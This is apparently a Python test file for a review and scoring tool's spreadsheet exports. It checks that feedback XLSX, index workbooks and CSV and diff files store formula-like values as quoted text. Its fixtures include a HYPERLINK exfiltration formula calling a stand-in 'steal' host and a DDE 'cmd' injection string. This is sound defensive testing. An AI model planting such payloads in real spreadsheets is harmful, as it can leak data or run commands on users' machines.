"""Finding 5: no export writes a live formula — feedback XLSX, index.xlsx, score CSVs, diff CSV."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from review.datasheet import datasheet_rows, export_xlsx
from review.feedback import add_comment
from review.state import manual_value
from sci.db import Store
from sci.editions import edition_spec
from sci.settings import Settings
from scoring import diff, exports
from scoring.pipeline import score
from tests.review import factories
from tests.review.factories import BERLIN
from tests.scoring.factories import CITIES, small_catalog, values

EVIL_SOURCE = '=HYPERLINK("http://127.0.0.9/steal?"&A1,"Quelle")'
EVIL_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _formulas(path: Path) -> list[str]:
    """Every <f> (formula) element in any sheet of the workbook."""
    with zipfile.ZipFile(path) as zf:
        return [n for n in zf.namelist() if n.startswith("xl/worksheets/") and b"<f>" in zf.read(n)]


def test_feedback_sheet_writes_a_hostile_source_and_commenter_as_text(
        store: Store, settings: Settings, tmp_path: Path) -> None:
    factories.seed(store, settings)
    with store.session() as s:
        manual_value(s, edition=2020, ags=BERLIN, parameter="social_media.mastodon", value=False,
                     analyst="anna", source=EVIL_SOURCE)
        add_comment(s, edition=2020, ags=BERLIN, parameter="social_media.mastodon", author="=1+2",
                    comment="bitte prüfen")
    cat = edition_spec(settings.data_dir, 2020).load_catalog()
    with store.session() as s:
        rows = datasheet_rows(s, cat, 2020, BERLIN)
    out = tmp_path / "berlin.xlsx"
    export_xlsx(rows, out)
    assert _formulas(out) == []
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert {c.value for c in hostile} >= {EVIL_SOURCE, "=1+2: bitte prüfen"}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_score_exports_write_analyst_names_as_text(tmp_path: Path) -> None:
    x = CITIES.index[0]
    result = score(small_catalog(), CITIES, values({x: {"i1.flag": True}}), edition=2020)
    details = pd.DataFrame(
        [(x, "i1.flag", 7, "approve", EVIL_NAME, "-2+3")],
        columns=["ags", "parameter", "decision_id", "action", "analyst", "evidence_url"],
    ).set_index(["ags", "parameter"])
    exports.write_tables(result, tmp_path, details)
    assert _formulas(tmp_path / "index.xlsx") == []
    sheet = load_workbook(tmp_path / "index.xlsx")["parameters"]
    names = [c for row in sheet.iter_rows() for c in row if c.value == EVIL_NAME]
    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)
    with (tmp_path / "parameters.csv").open(encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'" + EVIL_NAME in cells and "'-2+3" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_diff_csv_writes_snippets_as_text(tmp_path: Path) -> None:
    out = tmp_path / "diff.csv"
    diff.write_csv([{"ags": "05315000", "parameter": "p", "change": "changed", "from_snippet": "+49 221 0",
                     "to_snippet": "\t=cmd"}], out)
    with out.open(encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert (row["from_snippet"], row["to_snippet"]) == ("'+49 221 0", "'\t=cmd")
